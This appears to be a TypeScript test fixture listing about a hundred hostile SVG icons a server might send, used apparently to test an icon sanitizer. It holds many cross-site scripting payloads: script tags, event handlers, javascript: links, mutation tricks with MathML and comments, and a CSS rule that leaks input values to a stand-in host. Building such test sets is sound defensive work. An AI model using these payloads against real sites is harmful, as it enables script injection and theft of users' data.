/**
 * Hostile icons as a server might send them, by type of attack (docs/behaviour.md «Security»).
 * Those that run code set `window.hostile`; those that load something request a host that cannot
 * exist.
 */
const HOST = 'https://hostile.invalid'
const RUN = 'window.hostile=1'
const DOT = '<circle cx="12" cy="12" r="8"/>'
const svg = (inside: string, attributes = ''): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 24 24"${attributes}>${inside}</svg>`
const dataSvg = `data:image/svg+xml;base64,${btoa(svg(`<script>${RUN}</script>`))}`
const IMG = `<img src="x:" onerror="${RUN}">`

export const hostileIcons: Record<string, string> = {
  // Scripts.
  script: svg(`${DOT}<script>${RUN}</script>`),
  'script, upper case': svg(`<SCRIPT>${RUN}</SCRIPT>`),
  'script in CDATA': svg(`<script><![CDATA[${RUN}]]></script>`),
  'script with entities': svg('<script>window&#46;hostile&#61;1</script>'),
  'script by href': svg(`<script href="data:text/javascript,${RUN}"></script>`),
  'script by xlink:href': svg(`<script xlink:href="${HOST}/x.js"></script>`),
  'script in defs': svg(`<defs><script>${RUN}</script></defs>`),
  'script split by a nested one': svg(`<scr<script></script>ipt>${RUN}</script>`),
  'script with a slash': svg(`<script/x>${RUN}</script>`),
  'script after the icon': `${svg(DOT)}<script>${RUN}</script>`,
  'script without an icon': `<script>${RUN}</script>`,

  // Event handlers.
  onload: svg(DOT, ` onload="${RUN}"`),
  'onload, mixed case': svg(DOT, ` oNLoAd="${RUN}"`),
  'onload after a slash': `<svg/onload=${RUN}>`,
  'onload after a form feed': `<svg\fonload=${RUN}>`,
  'onload with entities': svg(DOT, ' onload="window&#x2e;hostile&equals;1"'),
  onclick: svg(`<circle r="90" onclick="${RUN}"/>`),
  onmouseover: svg(`<rect width="24" height="24" onmouseover="${RUN}"/>`),
  'onfocus with tabindex': svg(DOT, ` tabindex="0" autofocus onfocus="${RUN}"`),
  onbegin: svg(`<animate attributeName="x" begin="0s" dur="1s" onbegin="${RUN}"/>`),
  onend: svg(`<set attributeName="x" to="1" begin="0s" dur="1ms" onend="${RUN}"/>`),
  onrepeat: svg(`<animate attributeName="x" dur="1ms" repeatCount="2" onrepeat="${RUN}"/>`),
  'onerror of an image': svg(`<image href="x:" onerror="${RUN}"/>`),
  ontoggle: svg(`<details open ontoggle="${RUN}"/>`),
  onanimationstart: svg(
    `<style>@keyframes k{}</style><g style="animation:k 1s" onanimationstart="${RUN}"/>`,
  ),

  // Markup of another language inside.
  'foreignObject with an image': svg(
    `<foreignObject width="24" height="24">${IMG}</foreignObject>`,
  ),
  'foreignObject, lower case': svg(`<foreignobject>${IMG}</foreignobject>`),
  'foreignObject with a frame': svg(
    `<foreignObject><iframe srcdoc="<script>parent.hostile=1</script>"></iframe></foreignObject>`,
  ),
  'foreignObject with a form': svg(
    `<foreignObject><form action="${HOST}"><button formaction="javascript:${RUN}">x</button></form></foreignObject>`,
  ),
  'desc as a way into HTML': svg(`<desc>${IMG}</desc>`),
  'title as a way into HTML': svg(`<title>${IMG}</title>`),
  'HTML that closes the icon': svg(`<p>${IMG}`),
  'image after the icon': `${svg(DOT)}${IMG}`,
  'image before the icon': `${IMG}${svg(DOT)}`,
  frame: svg(`<iframe src="javascript:parent.${RUN}"></iframe>`),
  'frame after the icon': `${svg(DOT)}<iframe src="javascript:parent.${RUN}"></iframe>`,
  object: svg(`<object data="${dataSvg}"></object>`),
  embed: `${svg(DOT)}<embed src="${dataSvg}">`,
  'video source': `${svg(DOT)}<video><source onerror="${RUN}"></video>`,
  'meta refresh': `${svg(DOT)}<meta http-equiv="refresh" content="0;url=${HOST}">`,
  base: `${svg(DOT)}<base href="${HOST}/">`,
  'handler element': svg(
    `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${RUN}</handler>`,
  ),

  // References.
  'use of data': svg(`<use href="${dataSvg}#x"/>${DOT}`),
  'use of another host': svg(`<use xlink:href="${HOST}/sprite.svg#x"/>`),
  'use of the page': svg('<use href="#root"/>'),
  'image of another host': svg(`<image href="${HOST}/pixel.png" width="24" height="24"/>`),
  'image by xlink:href': svg(`<image xlink:href="${HOST}/pixel.png" width="24" height="24"/>`),
  'image of data': svg(`<image href="${dataSvg}" width="24" height="24"/>`),
  feImage: svg(
    `<filter id="f"><feImage href="${HOST}/pixel.png"/></filter><rect width="24" height="24" filter="url(#f)"/>`,
  ),
  textPath: svg(`<text><textPath href="${HOST}/path.svg#x">x</textPath></text>`),
  mpath: svg(`<animateMotion><mpath href="${HOST}/path.svg#x"/></animateMotion>`),
  'gradient of another host': svg(`<linearGradient href="${HOST}/paint.svg#x"/>`),
  tref: svg(`<text><tref xlink:href="${HOST}/text.svg#x"/></text>`),
  'colour profile': svg(`<color-profile xlink:href="${HOST}/profile.icc"/>`),

  // Links, and what rewrites them.
  'link to a script': svg(`<a href="javascript:${RUN}">${DOT}</a>`),
  'link by xlink:href': svg(`<a xlink:href="javascript:${RUN}">${DOT}</a>`),
  'link with a tab in its scheme': svg(`<a href="java&Tab;script:${RUN}">${DOT}</a>`),
  'link with a control character': svg(`<a href="&#1;javascript:${RUN}">${DOT}</a>`),
  'link to data': svg(`<a href="data:text/html,<script>${RUN}</script>">${DOT}</a>`),
  'link to another host': svg(`<a href="${HOST}" target="_top">${DOT}</a>`),
  'link pinged': svg(`<a href="#" ping="${HOST}">${DOT}</a>`),
  'animated href': svg(`<a>${DOT}<animate attributeName="href" values="javascript:${RUN}"/></a>`),
  'set href': svg(`<a>${DOT}<set attributeName="href" to="javascript:${RUN}"/></a>`),
  'set onmouseover': svg(`<set attributeName="onmouseover" to="${RUN}"/>${DOT}`),
  'animated xlink:href': svg(
    `<a>${DOT}<animate attributeName="xlink:href" from="#" to="javascript:${RUN}" begin="0s" fill="freeze"/></a>`,
  ),
  discard: svg('<discard href="#root" begin="0s"/>'),

  // Style.
  'style that imports': svg(`<style>@import url("${HOST}/all.css")</style>${DOT}`),
  'style that hides the page': svg(`<style>*{display:none!important}</style>${DOT}`),
  'style that reads fields': svg(`<style>input[value^=a]{background:url(${HOST}/a)}</style>`),
  'style attribute that covers the page': svg(
    DOT,
    ` style="position:fixed;inset:0;z-index:9999;background:url(${HOST}/pixel.png)"`,
  ),
  'class of the page': svg(DOT, ' class="mantine-Overlay-root"'),
  'id of the page': svg(DOT, ' id="root"'),
  'clobbering name': svg('<g id="mock" name="cookie"/>'),
  'fill by address': svg(`<rect width="24" height="24" fill="url(${HOST}/paint.svg#x)"/>`),
  'stroke by address, quoted': svg(
    `<rect width="24" height="24" stroke="url('${HOST}/paint.svg#x') red"/>`,
  ),
  'fill by an escaped address': svg(
    String.raw`<rect width="24" height="24" fill="\75rl(${HOST}/paint.svg#x)"/>`,
  ),
  'mask by address': svg(`<rect width="24" height="24" mask="url(${HOST}/mask.svg#x)"/>`),
  'clip by address': svg(`<rect width="24" height="24" clip-path="url(${HOST}/clip.svg#x)"/>`),
  'filter by address': svg(`<rect width="24" height="24" filter="url(${HOST}/filter.svg#x)"/>`),
  'marker by address': svg(`<path d="M0 0L9 9" marker-end="url(${HOST}/marker.svg#x)"/>`),
  'cursor by address': svg(DOT, ` cursor="url(${HOST}/cursor.cur),auto"`),
  'link to a sheet': svg(
    `<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${HOST}/all.css"/>${DOT}`,
  ),

  // Markup that changes its meaning when it is parsed again.
  'style in a title': `<svg></p><style><a title="</style>${IMG.replaceAll('"', "'")}">`,
  'MathML around style': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${RUN}&gt;">`,
  'MathML inside': svg(`<math><mtext><img src="x:" onerror="${RUN}"></mtext></math>`),
  noscript: svg(`<noscript><p title="</noscript>${IMG.replaceAll('"', "'")}">`),
  template: svg(`<template>${IMG}</template>`),
  comment: svg(`<!--><img src="x:" onerror="${RUN}">-->`),
  'comment closed by a bang': svg(`<!-- --!><img src="x:" onerror="${RUN}">-->`),
  'processing instruction': `<?xml-stylesheet href="${HOST}/all.xsl"?>${svg(DOT)}`,
  'doctype with an entity': `<!DOCTYPE svg [<!ENTITY x "${RUN}">]>${svg('<script>&x;</script>')}`,
  xmp: svg(`<xmp><p title="</xmp>${IMG.replaceAll('"', "'")}">`),
  'unclosed attribute': `<svg viewBox="0 0 24 24><img src=x: onerror=${RUN}>`,
  'unclosed path': '<svg viewBox="0 0 24 24"><path d="M4 4h16v',
  'null byte in a name': svg(`<scr\0ipt>${RUN}</scr\0ipt>`),
  'other namespace': svg(`<x:script xmlns:x="http://www.w3.org/2000/svg">${RUN}</x:script>`),
  'XHTML namespace': svg(
    `<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x:" onerror="${RUN}"/>`,
  ),
  'nested tables': `<svg><foreignObject><table><tr><td><svg><p>${IMG}`,
  'select as a trap': `${svg(DOT)}<select><template><img src="x:" onerror="${RUN}"></template></select>`,
  'custom element': svg(`<x-icon is="x-icon" onfocus="${RUN}" tabindex="0"/>`),

  // Too large.
  'over 8 KB of dots': svg(DOT.repeat(270)),
  'over 8 KB in two-byte letters': svg(`<desc>${'ї'.repeat(4100)}</desc>${DOT}`),
}
